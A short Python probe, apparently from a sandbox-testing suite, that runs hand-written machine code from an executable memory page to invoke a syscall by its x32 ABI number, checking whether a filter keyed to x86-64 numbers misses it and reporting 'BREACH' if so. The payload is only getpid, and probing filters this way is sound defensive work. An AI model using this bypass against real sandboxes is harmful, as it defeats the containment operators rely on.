# tries: calls the kernel by x32 numbers, past a filter that knows x86-64 numbers
# outcomes: ran, tamper, signaled
# may_return: ["refused", "not this machine"]
import ctypes
import mmap
import os

CODE = b"\xb8\x27\x00\x00\x40\x0f\x05\xc3"  # mov eax, 0x40000000 + 39 (getpid); syscall; ret


def f(x):
    if os.uname().machine != "x86_64":
        return "not this machine"
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError:
        return "refused"
    page.write(CODE)
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    return f"BREACH: the x32 call says {result}" if result > 0 else "refused"
